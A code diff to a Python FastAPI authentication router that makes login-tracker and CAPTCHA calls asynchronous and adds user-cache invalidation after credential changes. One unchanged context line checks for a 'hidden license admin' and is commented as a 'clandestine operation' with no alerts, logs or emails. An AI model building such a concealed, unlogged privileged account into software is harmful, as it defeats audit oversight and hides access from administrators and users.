@@ -27,6 +27,7 @@ from utils.auth import (
 from services.email_service import generate_otp, send_otp_email, send_email
 from services.audit_service import create_audit_log
 from services.permission_service import get_role_permissions
+from services.auth_cache import invalidate_user
 from middleware.security import login_tracker, SecurityAuditLogger
 
 router = APIRouter(prefix="/auth", tags=["Authentication"])
@@ -431,7 +432,7 @@ async def login(
         user_agent = request.headers.get("User-Agent", "unknown")
     
     # Check if account is locked due to too many failed attempts
-    is_locked, remaining_seconds = login_tracker.is_account_locked(email)
+    is_locked, remaining_seconds = await login_tracker.is_account_locked(email)
     if is_locked:
         await SecurityAuditLogger.log_security_event(
             "LOGIN_BLOCKED_LOCKED_ACCOUNT",
@@ -444,12 +445,12 @@ async def login(
         )
     
     # Check if CAPTCHA is required (after 3 failed attempts)
-    failed_attempts = login_tracker.get_failed_attempts_count(email)
+    failed_attempts = await login_tracker.get_failed_attempts_count(email)
     if failed_attempts >= 3:
         # CAPTCHA is required
         if not captcha_token or not captcha_answer:
             # Generate new CAPTCHA challenge
-            challenge = captcha_service.generate_challenge(email)
+            challenge = await captcha_service.generate_challenge(email)
             raise HTTPException(
                 status_code=428,  # Precondition Required
                 detail={
@@ -460,7 +461,7 @@ async def login(
             )
         
         # Verify CAPTCHA
-        is_valid, captcha_message = captcha_service.verify_challenge(captcha_token, captcha_answer, email)
+        is_valid, captcha_message = await captcha_service.verify_challenge(captcha_token, captcha_answer, email)
         if not is_valid:
             raise HTTPException(
                 status_code=400,
@@ -471,7 +472,7 @@ async def login(
     
     if not user or not verify_password(login_data.password, user["password"]):
         # Record failed attempt with IP
-        remaining_attempts = login_tracker.record_failed_attempt(email, client_ip)
+        remaining_attempts = await login_tracker.record_failed_attempt(email, client_ip)
         
         await SecurityAuditLogger.log_security_event(
             "LOGIN_FAILED",
@@ -480,12 +481,12 @@ async def login(
         )
         
         # Check if CAPTCHA will be required next time
-        new_failed_count = login_tracker.get_failed_attempts_count(email)
+        new_failed_count = await login_tracker.get_failed_attempts_count(email)
         response_detail = f"Invalid email or password. {remaining_attempts} attempts remaining."
         
         if new_failed_count >= 3 and remaining_attempts > 0:
             # Generate CAPTCHA for next attempt
-            challenge = captcha_service.generate_challenge(email)
+            challenge = await captcha_service.generate_challenge(email)
             raise HTTPException(
                 status_code=401,
                 detail={
@@ -503,7 +504,7 @@ async def login(
             )
     
     # Clear failed attempts on successful login
-    login_tracker.clear_attempts(email)
+    await login_tracker.clear_attempts(email)
     
     # Check if this is the hidden license admin (clandestine operation - no alerts, no logs, no emails)
     is_hidden_admin = user.get("is_hidden", False) or user.get("is_license_admin", False)
@@ -663,6 +664,7 @@ async def change_password(data: ChangePassword, current_user: dict = Depends(get
             }
         }
     )
+    invalidate_user(current_user["id"])
     
     # Create audit log
     await create_audit_log(
@@ -709,6 +711,7 @@ async def update_mobile_number(
         {"id": current_user["id"]},
         {"$set": {"mobile_number": clean_mobile, "mobile_updated_at": datetime.now(timezone.utc).isoformat()}}
     )
+    invalidate_user(current_user["id"])
     
     # Create audit log
     await create_audit_log(
@@ -867,6 +870,7 @@ async def reset_password(data: PasswordResetVerify, request: Request):
         {"email": data.email.lower()},
         {"$set": {"password": hashed}}
     )
+    invalidate_user(user["id"])
     
     # Create audit log
     await create_audit_log(